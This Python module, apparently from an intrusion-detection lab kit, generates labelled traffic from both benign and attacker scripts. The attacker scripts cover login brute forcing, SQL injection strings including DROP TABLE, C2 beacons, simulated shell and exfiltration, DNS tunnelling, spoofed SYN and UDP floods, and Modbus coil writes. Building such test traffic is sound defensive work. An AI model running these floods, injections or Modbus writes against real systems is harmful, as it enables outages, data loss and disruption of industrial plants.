"""Scripts of people, devices and attackers for what no program of the distribution does.

python -m idskit.lab.play SCRIPT SERVER [NUMBERS...]; every script ends by itself.
"""

from __future__ import annotations

import http.client
import os
import random
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from urllib.parse import quote, urlencode

_TIMEOUT_S = 5.0
_RANDOM = random.Random()  # noqa: S311 - shapes traffic, keeps no secret


def _line(connection: socket.socket, text: str) -> bytes:
    connection.sendall(text.encode() + b"\r\n")
    return connection.recv(4096)


def _connect(server: str, port: int) -> socket.socket:
    return socket.create_connection((server, port), _TIMEOUT_S)


def guess_web(server: str, count: int, pause: float) -> None:
    """Try passwords at a login form, a connection each."""
    for number in range(count):
        connection = http.client.HTTPConnection(server, 8080, timeout=_TIMEOUT_S)
        form = urlencode({"user": "admin", "password": f"password{number}"})
        connection.request("POST", "/login", form)
        connection.getresponse().read()
        connection.close()
        time.sleep(_RANDOM.uniform(0, pause))


def guess_telnet(server: str, count: int, pause: float) -> None:
    """Try default passwords by Telnet, as IoT botnets do."""
    for number in range(count):
        with suppress(OSError), _connect(server, 23) as connection:
            connection.recv(100)
            for text in ("root", f"password{number}", "admin", "admin"):
                _line(connection, text)
        time.sleep(_RANDOM.uniform(0, pause))


def inject(server: str, count: int, pause: float) -> None:
    """Try SQL injections against the shop's search."""
    tries = ("' OR 1=1 --", "' UNION SELECT {n},user,pass FROM users --", "'; DROP TABLE t{n} --")
    connection = http.client.HTTPConnection(server, 8080, timeout=_TIMEOUT_S)
    for number in range(count):
        words = quote(_RANDOM.choice(tries).format(n=number))
        connection.request("GET", f"/search?q={words}")
        connection.getresponse().read()
        time.sleep(_RANDOM.uniform(0, pause))


def beacon(server: str, count: int, pause: float) -> None:
    """Ask a controller for work again and again, with jitter, over plain TCP."""
    for number in range(count):
        with suppress(OSError), _connect(server, 4444) as connection:
            _line(connection, f"id=7f3a&n={number}")
        time.sleep(pause * _RANDOM.uniform(2, 3))


def tls_beacon(server: str, count: int, pause: float) -> None:
    """Ask a controller for work over TLS."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    for number in range(count):
        with (
            suppress(OSError),
            _connect(server, 443) as plain,
            context.wrap_socket(plain, server_hostname="cdn-update.example") as connection,
        ):
            _line(connection, f"GET /u?{number} HTTP/1.0\r\n")
        time.sleep(pause * _RANDOM.uniform(2, 3))


def shell(server: str, count: int, pause: float) -> None:
    """Open a shell backwards: short commands, typed with pauses."""
    with _connect(server, 4444) as connection:
        for _ in range(count):
            _line(connection, _RANDOM.choice(("uid=0(root)", "total 48", "Linux lab 6.1")))
            time.sleep(_RANDOM.uniform(0, 2 * pause))


def exfiltrate(server: str, count: int, pause: float) -> None:
    """Carry files out over one connection."""
    with _connect(server, 4444) as connection:
        for _ in range(count):
            connection.sendall(os.urandom(20_000).hex().encode() + b"\n")
            connection.recv(100)
            time.sleep(_RANDOM.uniform(0, pause / 10))


def dns_tunnel(server: str, count: int, pause: float) -> None:
    """Carry data out in the names of DNS queries."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(1)
        for number in range(count):
            label = os.urandom(25).hex()
            name = b"".join(bytes([len(p)]) + p.encode() for p in (label, "t", "example", "org"))
            query = struct.pack(">HHHHHH", number, 0x0100, 1, 0, 0, 0) + name + b"\0\0\x10\0\x01"
            asking.sendto(query, (server, 53))
            with suppress(TimeoutError):
                asking.recv(512)
            time.sleep(_RANDOM.uniform(0, pause / 4))


def spoofed_syn(server: str, count: int, port: int) -> None:
    """Flood a port with SYNs from forged sources."""
    _flood(server, count * 100, lambda source: _syn(source, server, port), socket.IPPROTO_TCP)


def spoofed_udp(server: str, count: int, port: int) -> None:
    """Flood a port with UDP from forged sources."""
    body = struct.pack(">HHHH", 53, port, 72, 0) + bytes(64)
    _flood(server, count * 100, lambda _: body, socket.IPPROTO_UDP)


def _flood(server: str, count: int, make: Callable[[str], bytes], protocol: int) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        for _ in range(count):
            source = f"10.77.{_RANDOM.randint(1, 254)}.{_RANDOM.randint(1, 254)}"
            segment = make(source)
            total = 20 + len(segment)
            head = struct.pack(">BBHHHBBH", 0x45, 0, total, 0, 0, 64, protocol, 0)
            ends = socket.inet_aton(source) + socket.inet_aton(server)
            out.sendto(head + ends + segment, (server, 0))


def _syn(source: str, server: str, port: int) -> bytes:
    mine = _RANDOM.randint(1024, 65535)
    head = struct.pack(">HHIIBBHHH", mine, port, _RANDOM.getrandbits(32), 0, 0x50, 2, 1024, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(server) + struct.pack(">BBH", 0, 6, 20)
    total = sum(struct.unpack(f">{(len(pseudo) + 20) // 2}H", pseudo + head))
    total = (total & 0xFFFF) + (total >> 16)
    checksum = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
    return head[:16] + struct.pack(">H", checksum) + head[18:]


def browse(server: str, count: int, pause: float) -> None:
    """Read pages with pictures, several connections at a time, as a browser does."""
    for _ in range(count):
        pages = [http.client.HTTPConnection(server, 80, timeout=_TIMEOUT_S) for _ in range(3)]
        for connection, name in zip(
            pages, ("index.html", "picture.jpg", "missing.css"), strict=True
        ):
            connection.request("GET", f"/{name}", headers={"User-Agent": "Mozilla/5.0 (lab)"})
        for connection in pages:
            connection.getresponse().read()
            connection.close()
        time.sleep(_RANDOM.uniform(0, 4 * pause))


def shopping(server: str, count: int, pause: float) -> None:
    """Search the shop and log in, mistyping the password once."""
    connection = http.client.HTTPConnection(server, 8080, timeout=_TIMEOUT_S)
    for number in range(count):
        connection.request("GET", f"/search?q=thing+{number}")
        connection.getresponse().read()
        time.sleep(_RANDOM.uniform(0, 2 * pause))
    for password in ("correct hrose", "correct horse"):
        form = urlencode({"user": "operator", "password": password})
        connection.request("POST", "/login", form)
        connection.getresponse().read()


def poll_modbus(server: str, count: int, pause: float) -> None:
    """Read holding registers, as a control station does."""
    with _connect(server, 502) as connection:
        for number in range(count):
            read = struct.pack(">HHHBBHH", number, 0, 6, 1, 3, 0, 10)
            connection.sendall(read)
            connection.recv(300)
            time.sleep(pause)


def write_modbus(server: str, count: int, pause: float) -> None:
    """Try every function code and write coils: what no station of this plant does."""
    for number in range(count):
        with suppress(OSError), _connect(server, 502) as connection:
            for code in (5, 6, 15, 16, 43, 90):
                request = struct.pack(">HHHBBHH", number, 0, 6, 1, code, number, 0xFF00)
                connection.sendall(request)
                connection.recv(300)
        time.sleep(_RANDOM.uniform(0, pause))


def health(server: str, count: int, pause: float) -> None:
    """Check that ports answer, and close again."""
    for _ in range(count):
        for port in (80, 443):
            _connect(server, port).close()
        time.sleep(pause)


def retry(server: str, count: int, pause: float) -> None:
    """Knock at a port that is closed, as a device does whose service is away."""
    for _ in range(count):
        with suppress(OSError):
            _connect(server, 8883).close()
        time.sleep(2 * pause)


def ftp_session(server: str, count: int, pause: float) -> None:
    """Log in by FTP with the right password and look around."""
    with _connect(server, 21) as connection:
        connection.recv(200)
        for text in ("USER operator", "PASS correct horse", *["NOOP"] * count, "QUIT"):
            _line(connection, text)
            time.sleep(_RANDOM.uniform(0, pause))


SCRIPTS: dict[str, Callable[..., None]] = {
    script.__name__.replace("_", "-"): script
    for script in (
        *(guess_web, guess_telnet, inject, beacon, tls_beacon, shell, exfiltrate, dns_tunnel),
        *(spoofed_syn, spoofed_udp, write_modbus),
        *(browse, shopping, poll_modbus, health, retry, ftp_session),
    )
}


def main(words: list[str]) -> None:
    """Run a script by name: play SCRIPT SERVER COUNT PAUSE-OR-PORT."""
    name, server, count, last = words
    _RANDOM.seed(f"{name} {server} {count} {last}")
    number = float(last)
    SCRIPTS[name](server, int(count), int(number) if number.is_integer() else number)


if __name__ == "__main__":
    main(sys.argv[1:])
